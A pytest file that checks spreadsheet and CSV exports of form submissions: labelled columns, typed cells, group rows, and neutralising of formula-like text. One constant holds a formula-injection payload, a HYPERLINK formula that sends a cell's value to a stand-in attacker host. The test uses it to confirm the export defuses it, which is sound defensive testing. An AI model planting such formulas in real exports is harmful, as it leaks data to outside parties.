"""Exports of every call in forms/definitions/, read back as a person would open them: the
CSV with the csv module, the XLSX with openpyxl. Each call gets two submissions that answer
every question (several items in every repeatable group), sent through the public pages in
the call's languages; then every staff language the call offers is exported and checked:
labelled columns, one row per group item on its own sheet / CSV, typed cells (dates as
dates, numbers as numbers, yes/no as words), formulas neutralised only where they would run."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime
from decimal import Decimal

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from tests.conftest import DEMO_FORMS, FormClient, demo_definition
from tests.test_auth import PASSWORD, sign_in

ADMIN = "ada@example.org"
ITEMS = 3  # items in every repeatable group
PHONE = "+48 600 100 200"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"x")'
CALLS = sorted(
    __import__("yaml").safe_load(p.read_text(encoding="utf-8"))["slug"]
    for p in DEMO_FORMS.glob("*.yaml")
)


# --- answering every question ----------------------------------------------------------------


def value_for(field, submission: int, item: int = 0):
    """Form data that answers `field` validly; varies with the submission and the item so
    that every choice (and so every condition's branch) is taken somewhere."""
    options, kind = field.options, field.type
    example = field.kind.example_post(field)
    if example is not None:
        return example  # the type's own valid answer, by input
    if kind == "text":
        # The first submission starts its short answers like a formula would.
        return fit(FORMULA if submission == 0 else f"Łódź – {field.name} {item}", field)
    if kind == "textarea":
        return fit("-minus first\nZażółć gęślą jaźń" if submission == 0 else "Räksmörgås", field)
    if kind == "email":
        return f"person{submission}.{item}@example.org"
    if kind == "phone":
        return PHONE
    if kind == "number":
        return str(options.get("min", 3) + submission)
    if kind == "date":
        return options.get("max" if submission else "min") or "2030-04-18"
    if kind == "choice":
        values = [c["value"] for c in options["choices"]]
        return values[(submission + item) % len(values)]
    if kind == "multichoice":
        return [c["value"] for c in options["choices"]][:2]
    if kind == "yesno":
        return "yes" if (submission + item) % 2 == 0 else "no"
    if kind == "consent":
        return "y"
    return None  # files: optional in the demo calls; groups: item by item


def fit(text: str, field) -> str:
    """`text`, made as long as the question wants."""
    shortest, longest = field.options.get("min_length") or 0, field.options["max_length"]
    return text.ljust(shortest, "ą")[:longest]


def page_data(page, submission: int) -> dict:
    data = {}
    for field in page.inputs:
        if field.type == "group":
            for item in range(ITEMS):
                for child in field.children:
                    value = value_for(child, submission, item)
                    if isinstance(value, dict):
                        key = f"{field.name}-{item}-{child.name}"
                        data.update({key + suffix: text for suffix, text in value.items()})
                    elif value is not None:
                        data[f"{field.name}-{item}-{child.name}"] = value
        elif isinstance(value := value_for(field, submission), dict):
            data.update({field.name + suffix: text for suffix, text in value.items()})
        elif value is not None:
            data[field.name] = value
    return data


def send(app, slug: str, spec, submission: int, language: str) -> None:
    client = FormClient(app.test_client())
    client.get(f"/calls/{slug}/page/1?lang={language}")
    for page in spec.pages:
        response = client.fill(slug, page.index + 1, page_data(page, submission))
        assert response.status_code == 302, client.last_html[:3000]
    client.get(f"/calls/{slug}/check")
    assert client.post(f"/calls/{slug}/check", {}).status_code == 302, client.last_html[:3000]


@pytest.fixture(params=CALLS)
def call(request, app, create_form):
    """(slug, spec, form id, stored answers per reference) with two submissions."""
    from extensions import db
    from forms.published import spec_for
    from models import Answer, Form, Submission

    slug = request.param
    create_form(demo_definition(slug))
    with app.app_context():
        form = db.session.scalar(select(Form).where(Form.slug == slug))
        spec = spec_for(form.current_version)
        form_id = form.id
    for submission in range(2):
        send(app, slug, spec, submission, spec.languages[submission % len(spec.languages)])
    with app.app_context():
        stored: dict[str, dict] = {}
        for reference, name, value in db.session.execute(
            select(Submission.reference, Answer.field, Answer.value)
            .join(Answer, Answer.submission_id == Submission.id)
            .where(Submission.form_id == form_id)
        ):
            stored.setdefault(reference, {})[name] = value
    assert len(stored) == 2
    result = app.test_cli_runner().invoke(
        args=["users", "create", ADMIN, "--role", "admin"], input=f"{PASSWORD}\n{PASSWORD}\n"
    )
    assert result.exit_code == 0, result.output
    return slug, spec, form_id, stored


def staff_client(app) -> FormClient:
    client = FormClient(app.test_client())
    assert sign_in(client, ADMIN).status_code == 302
    return client


# --- reading what came out ------------------------------------------------------------------


def csv_table(response) -> list[dict[str, str]]:
    assert response.status_code == 200
    text = response.get_data().decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:])))


def sheet_table(sheet) -> tuple[list[str], list[list]]:
    rows = list(sheet.iter_rows())
    return [c.value for c in rows[0]], rows[1:]


def expected_cell(field, value, language: str):
    """What a spreadsheet cell should hold for a stored answer: typed where the type has a
    spreadsheet equivalent, else the text the dashboard shows."""
    if value is None:
        return None
    if field.type == "number":
        return value
    if field.type == "date":
        return date.fromisoformat(value)
    if field.type == "datetime":  # the call's wall clock: a spreadsheet keeps no zone
        return datetime.fromisoformat(value).astimezone(field.zone).replace(tzinfo=None)
    if field.type == "group":
        return len(value)
    return field.display(value, language)


def as_csv_text(expected) -> str:
    if expected is None:
        return ""
    if isinstance(expected, date):
        return expected.isoformat()
    if isinstance(expected, str) and expected[:1] in ("=", "+", "-", "@"):
        return "'" + expected
    return str(expected)


def short(field) -> bool:
    """Answers repeated on each item's row, to say whose item it is."""
    return field.type in {
        "text",
        "email",
        "phone",
        "choice",
        "multichoice",
        "number",
        "date",
        "yesno",
        "time",
        "datetime",
        "country",
        "url",
    }


# --- the tests --------------------------------------------------------------------------------


def test_every_call_exports_labelled_typed_columns_and_one_row_per_group_item(app, call):
    from flask_babel import force_locale

    slug, spec, form_id, stored = call
    client = staff_client(app)
    groups = [f for f in spec.inputs if f.type == "group"]
    for language in spec.languages:
        with app.test_request_context(), force_locale(language):
            labels = {f.name: f.label(language) for f in spec.inputs}
            expect = {
                ref: {f.name: expected_cell(f, answers.get(f.name), language) for f in spec.inputs}
                for ref, answers in stored.items()
            }
            expect_items = {
                (ref, group.name): [
                    {c.name: expected_cell(c, item.get(c.name), language) for c in group.children}
                    for item in answers.get(group.name) or []
                ]
                for ref, answers in stored.items()
                for group in groups
            }
        book = load_workbook(
            io.BytesIO(client.client.get(f"/dashboard/exports/{form_id}.xlsx?lang={language}").data)
        )
        assert len(book.worksheets) == 1 + len(groups)

        # The submissions: a column per question, headed by its label, never by its key.
        header, rows = sheet_table(book.worksheets[0])
        assert not {f.name for f in spec.inputs} & set(header)
        by_reference = {row[0].value: row for row in rows}
        assert set(by_reference) == set(stored)
        csv_rows = csv_table(client.client.get(f"/dashboard/exports/{form_id}.csv?lang={language}"))
        assert {r[header[0]] for r in csv_rows} == set(stored)
        for field in spec.inputs:
            column = (  # a group's column holds how many items it has, and says so
                header.index(labels[field.name])
                if field.type != "group"
                else next(i for i, h in enumerate(header) if h.startswith(labels[field.name]))
            )
            for reference, row in by_reference.items():
                cell, wanted = row[column], expect[reference][field.name]
                check_cell(cell, wanted, f"{slug}/{language}/{field.name}")
                csv_row = next(r for r in csv_rows if r[header[0]] == reference)
                assert csv_row[header[column]] == as_csv_text(wanted), field.name
        for row in rows:  # submitted, last changed: moments, not text
            assert isinstance(row[2].value, datetime) and isinstance(row[3].value, datetime)
            assert row[2].is_date

        # Each group: its own sheet and CSV, one row per item, each answer in its column.
        for sheet, group in zip(book.worksheets[1:], groups, strict=True):
            header, rows = sheet_table(sheet)
            csv_rows = csv_table(
                client.client.get(f"/dashboard/exports/{form_id}/{group.name}.csv?lang={language}")
            )
            assert list(csv_rows[0]) == header
            assert len(rows) == len(csv_rows) == sum(len(v) for v in expect_items.values())
            for field in [f for f in spec.inputs if short(f)]:  # who the item belongs to
                assert labels[field.name] in header
            for child in group.children:
                assert child.label(language) in header and child.name not in header
            number_column = header.index(group.children[0].label(language)) - 1
            for row, csv_row in zip(rows, csv_rows, strict=True):
                reference, number = row[0].value, row[number_column]
                items = expect_items[reference, group.name]
                assert isinstance(number.value, int) and 1 <= number.value <= len(items)
                for child in group.children:
                    column = header.index(child.label(language))
                    wanted = items[number.value - 1][child.name]
                    check_cell(row[column], wanted, f"{slug}/{language}/{child.name}")
                    assert csv_row[header[column]] == as_csv_text(wanted), child.name


def check_cell(cell, wanted, where: str) -> None:
    if wanted is None:
        assert cell.value in (None, ""), where
    elif isinstance(wanted, datetime):
        assert cell.is_date and cell.value == wanted, where
    elif isinstance(wanted, date):
        assert cell.is_date and cell.value.date() == wanted, where
    elif isinstance(wanted, int | float | Decimal):
        assert cell.data_type == "n" and cell.value == wanted, where
    else:
        # Text exactly as given: no apostrophe in the value, never a formula; what would
        # run if typed in is marked as text the way Excel marks it (quotePrefix).
        assert cell.data_type == "s" and cell.value == wanted, where
        assert cell.quotePrefix == (wanted[:1] in ("=", "+", "-", "@")), where
